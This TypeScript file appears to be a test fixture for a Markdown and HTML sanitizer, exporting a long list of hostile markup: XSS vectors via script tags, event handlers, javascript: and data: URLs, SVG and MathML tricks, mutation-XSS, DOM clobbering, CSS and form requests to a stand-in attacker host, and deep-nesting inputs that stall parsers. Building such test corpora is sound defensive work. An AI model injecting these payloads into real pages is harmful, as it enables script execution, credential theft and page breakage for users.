import { ELSEWHERE, TRAP } from './hostile-texts';

const CALL = `(${TRAP})`;
const SPY = `https://${ELSEWHERE}/x`;
const IMG = `<img src=x onerror=${CALL}>`;
const times = (many: number, open: string, close = '') => `${open.repeat(many)}x${close.repeat(many)}`;

const each = (values: string, write: (value: string) => string) => values.split(' ').map(write);

const scripts = [
  ...each('script SCRIPT ScRiPt script/x svg:script', (tag) => `<${tag}>${TRAP}</${tag}>`),
  `<script src="${SPY}.js"></script>`,
  `<script type="module">${TRAP}</script>`,
  `<scr<script>ipt>${TRAP}</script>`,
  `<<script>${TRAP}//<</script>`,
  `<script>${TRAP}`,
  `\`\`\`\n</code></pre><script>${TRAP}</script>\n\`\`\``,
  `| <script>${TRAP}</script> |\n| --- |\n| <script>${TRAP}</script> |`,
];
const handlers = [
  ...each('img image video audio iframe object embed input', (tag) => `<${tag} src=x onerror=${CALL}>`),
  ...each('a b p div table td blockquote h2 li', (tag) => `<${tag} onmouseover=${CALL} onclick=${CALL}>x</${tag}>`),
  ...each(
    'onload onfocus ontoggle onanimationstart onpointerenter',
    (event) => `<details open ${event}=${CALL}>x</details>`,
  ),
  `<body onload=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<select autofocus onfocus=${CALL}>`,
  `<img/src/onerror=${CALL}>`,
  `<img\nsrc=x\nonerror\n=\n${CALL}>`,
  `<a href="/a" title='"onmouseover=${CALL}'>x</a>`,
];
const ADDRESSES = [
  `javascript:${TRAP}`,
  `JaVaScRiPt:${TRAP}`,
  `java\tscript:${TRAP}`,
  `\u0001javascript:${TRAP}`,
  `&#106;avascript:${TRAP}`,
  `javascript&colon;${TRAP}`,
  `vbscript:${TRAP}`,
  `data:text/html,<script>${TRAP}</script>`,
  'data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=1>',
  `blob:${SPY}`,
  'file:///etc/passwd',
];
const addresses = [
  ...ADDRESSES.flatMap((to) => [`[x](<${to}>) ![x](<${to}>)`, `<a href="${to}">x</a><img src="${to}" alt="x">`]),
  `[x][1]\n\n[1]: javascript:${TRAP}`,
  `<javascript:${TRAP}>`,
  `[x](/a "\\" onmouseover=${CALL}")`,
  `![x"onerror="${TRAP}](/repository/x.png)`,
  `[![x](javascript:${TRAP})](javascript:${TRAP})`,
  `![x](${SPY}.png)`,
  `![x](//${ELSEWHERE}/x.png)`,
  '![x](/repository/../oauth/token)',
];
const foreign = [
  ...each('onload onbegin onclick', (event) => `<svg ${event}=${CALL}><g ${event}=${CALL}></g></svg>`),
  `<svg><script>${TRAP}</script></svg>`,
  `<svg><a xlink:href="javascript:${TRAP}"><text y=9>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${TRAP}></svg>`,
  `<svg><set attributeName=onmouseover to=${TRAP}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${TRAP}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${TRAP}>#x"></svg>`,
  `<svg><style>*{background:url(${SPY})}</style></svg>`,
  `<svg><image href="${SPY}.png"></svg>`,
  `<svg><title><p>${IMG}</p></title></svg>`,
  `<math href="javascript:${TRAP}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${TRAP}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${TRAP}</script>">`,
];
const mutations = [
  `<noscript><p title="</noscript>${IMG}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><style><img title="</style>${IMG}">`,
  `<math><style><!--</style>${IMG}--></style></math>`,
  ...each(
    'xmp listing plaintext noembed noframes textarea title iframe template',
    (tag) => `<${tag}><p title="</${tag}>${IMG}">`,
  ),
  `<select><template><style><!--</style><a rel="--></style></template></select>${IMG}">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!>${IMG}<!--`,
  `<?xml version="1.0"?>${IMG}`,
  `<![CDATA[>${IMG}]]>`,
  `<a title="&lt;/a&gt;${IMG}">x</a>`,
  `<p id="</p>${IMG}">`,
  `<table><td>${IMG}<tr>${IMG}`,
  `<h2><h3>${IMG}</h2></h3>`,
  `<a><a>${IMG}</a></a>`,
];
const looks = [
  '<div style="position:fixed;inset:0;background:red">x</div>',
  `<p style="background:url(${SPY})">x</p>`,
  '<style>*{display:none}</style>',
  `<style>@import "${SPY}.css";</style>`,
  `<link rel="stylesheet" href="${SPY}.css">`,
  '<div class="button button-contained">x</div>',
  '<font size="99" color="red">x</font>',
  `<body background="${SPY}.png" bgcolor="red">`,
  `<table background="${SPY}.png" width="99999"><tr><td>x</td></tr></table>`,
  '<img width=99999 height=99999 src="/repository/x.png">',
  '<base href="https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=${SPY}">`,
  '<dialog open>x</dialog>',
  '<div popover hidden inert contenteditable>x</div>',
  '<canvas width=99999 height=99999></canvas>',
  `<form action="${SPY}"><input name=password><button>x</button></form>`,
];
const clobbering = [
  ...each('root main config __pwned getElementById', (id) => `<p id=${id}><a name=${id}>x</a></p>`),
  ...each('main root __proto__ constructor', (name) => `# ${name}\n\n# ${name}\n\n# ${name}`),
  '<form name=body><input name=attributes><input name=nodeName></form>',
  '<img name=querySelector><img name=querySelector>',
  '[__proto__]\n\n[__proto__]: /a\n\n[toString]\n\n[toString]: /a',
  '<slot name=x></slot><template shadowrootmode=open><p>x</p></template>',
];
const unfinished = [
  '<div',
  '<div><p><b><i>x',
  '<a href="/a',
  '<!-- x',
  '</main></div></div></body></html>',
  '<table><tr><td>x',
  '```\nx',
  '[x](/a',
  '![x',
  '[x]: ',
  '| a |\n| -',
  '**x *y __z',
  '<p>&#x110000; &#0; &bogus; \u0000',
  '\u202Eright\u2067 to left',
];
const others = [
  `<x-y onclick=${CALL}>x</x-y>`,
  `<a href="/a" target="_blank" rel="opener" ping="${SPY}">x</a>`,
  `<input type=image src="${SPY}.png" formaction="javascript:${TRAP}">`,
  `<picture><source srcset="${SPY}.png"><img alt=x></picture>`,
  `<img srcset="${SPY}.png 1x" alt=x>`,
  `<map name=root><area href="javascript:${TRAP}"></map><img usemap="#root">`,
  `<ruby>x<rt onclick=${CALL}>x</rt></ruby>`,
  `<bgsound src="${SPY}.mp3">`,
  `<portal src="${SPY}"></portal>`,
  `<frameset onload=${CALL}><frame src="javascript:${TRAP}"></frameset>`,
];
const nested = [
  ...each('div b blockquote a span font details table svg math', (tag) => times(600, `<${tag}>`, `</${tag}>`)),
  times(400, '<ul><li>', '</li></ul>'),
  times(400, '<table><tr><td>'),
  times(20_000, '> '),
  times(20_000, '- '),
  times(1000, '[', '](/a)'),
  times(1000, '![', '](/a)'),
  times(300, '**a *b ', '* **'),
  Array.from({ length: 300 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n'),
];
const emphasis = [
  ...['*', '_', '~', '`', '[', '<', '&', '|', '\\'].map((mark) => mark.repeat(3000)),
  ...['*a_ ', '**a ', '_a ', 'a** ', '*_', '**a *b_ ', '~~a '].map((piece) => piece.repeat(2000)),
];

/** Markdown and HTML that have run, or broken a page, elsewhere. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreign,
  ...mutations,
  ...looks,
  ...clobbering,
  ...unfinished,
  ...others,
  ...nested,
  ...emphasis,
];
